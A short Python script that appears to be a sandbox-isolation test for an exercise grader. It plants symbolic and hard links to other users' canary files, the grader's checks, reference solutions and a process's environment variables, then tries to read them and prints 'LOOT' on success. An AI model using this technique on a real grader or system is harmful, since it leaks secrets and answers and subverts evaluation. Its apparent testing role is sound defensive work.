# attack: puts symbolic and hard links to foreign files into its folder and reads those
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import os
import shutil

MAKE = {"symlink": os.symlink, "link": os.link, "link to the link": lambda a, b: (os.symlink(a, b + "s"), os.link(b + "s", b, follow_symlinks=True)), "rename": os.rename}
failed = {}


def attempt(what, action):
    try:
        return action()
    except (OSError, shutil.Error) as error:
        failed[what, type(error).__name__] = failed.get((what, type(error).__name__), 0) + 1


for number, place in enumerate(("@OTHER@/canary.txt", "@RESULTS@/canary.txt", "@HOME@", "@KIT@/checks", "@KIT@/../solutions", "/proc/@PID@/environ")):
    for how, make in MAKE.items():
        if how == "rename" and "canary" not in place:
            continue
        name = f"{how[:6]}-{number}"
        attempt(how, lambda: make(place, name))
        for what, read in (("open", lambda: open(name, "rb").read()), ("list", lambda: os.listdir(name)), ("copy", lambda: open(shutil.copy(name, "copy"), "rb").read()),
                           ("tree", lambda: os.listdir(shutil.copytree(name, f"tree-{name}")))):  # fmt: skip
            found = attempt(what, read)
            if found:
                print("LOOT:", place, how, what, len(found))
print(failed)
print("TRIED")
